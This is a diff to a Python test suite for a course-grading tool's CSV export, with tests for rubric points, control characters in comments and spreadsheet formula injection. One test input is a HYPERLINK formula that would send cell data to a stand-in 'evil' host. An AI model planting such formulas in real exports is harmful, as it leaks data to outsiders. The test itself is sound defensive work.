@@ -37,8 +37,8 @@ IDEA, REASON = (item.text for item in RUBRIC)
 def a_lab(rubric: Sequence[RubricItem] = ()) -> Course:
     course = Course(name="Convolution", assignments={"lab": Assignment(title="Lab", questions=[
         Question(name="twice", title="Twice", points=Decimal(2)),
-        Question(name="essay", title="Why?", points=Decimal(3), kind="text",
-                 rubric=list(rubric))])})
+        Question(name="essay", title="Why?", kind="text", rubric=list(rubric),
+                 points=sum((item.points for item in rubric), Decimal(0)) or Decimal(3))])})
     course.assignment("lab")._name = "lab"
     return course
 
@@ -104,6 +104,19 @@ def test_no_spreadsheet_takes_a_digest_for_a_number() -> None:
     assert not {fingerprint(str(text))[0] for text in range(50)} & set("0123456789+-.eEinfN")
 
 
+@pytest.mark.parametrize("text", [
+    "harmless", 'x\n=HYPERLINK("http://evil/?"&A1,"click")', "x\t=1+1", "x\n\n  @SUM(1)", "a;-1",
+    "x\r=1+1", "x\n=1\n=2", "=1\t\t=2"])
+def test_no_part_of_a_text_is_a_formula_by_whatever_separator(text: str) -> None:
+    table = exported(a_lab(), Answer("ann", text, a_mark("1", text)))
+    for separator in ",;\t|":
+        for row in csv.reader(io.StringIO(table, newline=""), delimiter=separator):
+            assert not [cell for cell in row if cell.lstrip().startswith(tuple("=+-@"))]
+        rows = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
+        if separator == "\t" and "\t=" in text:  # control: without our doing
+            assert [cell for row in rows for cell in row if cell.startswith("=")]
+
+
 # What changes something -----------------------------------------------------------------------
 
 @given(st.decimals(0, 1, places=2), st.decimals(0, "1.5", places=2))
@@ -150,6 +163,8 @@ def test_a_table_that_excel_wrote_in_german_is_read() -> None:
     ({"points": "two"}, "'two' is no number from 0 to 3"),
     ({"points": "3.01"}, "'3.01' is no number from 0 to 3"),
     ({"points": "-1"}, "'-1' is no number from 0 to 3"),
+    ({"points": "\uff12"}, "is no number from 0 to 3"),
+    ({"points": "1_0"}, "'1_0' is no number from 0 to 3"),
     ({"points": "NaN"}, "'NaN' is no number"),
     ({"points": "1.005"}, "with two decimals at most"),
     ({"student": "zoe", "points": "1"}, "nobody called 'zoe' has a text to be marked"),
@@ -164,6 +179,20 @@ def test_what_cannot_be_is_refused(cells: dict[str, str], words: str) -> None:
     with pytest.raises(ExchangeError) as refused:
         taken(course, filled(exported(course, ANN), **cells), ANN)
     assert words in str(refused.value)
+
+
+@pytest.mark.parametrize("comment", ["So.\nAnd\tso.", "a\0b", "a\x1bb", "a\x85b"])
+def test_a_comment_with_a_control_character_is_refused_for_not_every_database_keeps_it(
+    comment: str
+) -> None:
+    course, bob = a_lab(), Answer("bob", "=Because", None)
+    text = filled(exported(course, ANN, bob), points="1", comment="Good.")
+    text = text.replace("Good.", f'"{comment}"' if "\n" in comment else comment, 1)
+    if comment.startswith("So."):  # control
+        assert {mark.comment for mark in taken(course, text, ANN, bob).new} == {comment, "Good."}
+        return
+    with pytest.raises(ExchangeError, match=r"row 2: .*control character \(U\+00"):
+        taken(course, text, ANN, bob)
 
 
 def test_every_row_that_cannot_be_is_named_by_its_number() -> None:
@@ -187,7 +216,7 @@ def test_a_student_has_one_row() -> None:
 @pytest.mark.parametrize(("cells", "words"), [
     ({IDEA: "1"}, "1 of 2 lines of the rubric have points"),
     ({IDEA: "1.5", REASON: "1"}, "'1.5' is no number from 0 to 1"),
-    ({IDEA: "1", REASON: "1", "points": "3"}, "has 3 points, and 2 by its rubric"),
+    ({IDEA: "1", REASON: "1", "points": "2.5"}, "has 2.5 points, and 2 by its rubric"),
 ])
 def test_a_rubric_is_filled_in_whole_and_agrees_with_the_points(
     cells: dict[str, str], words: str
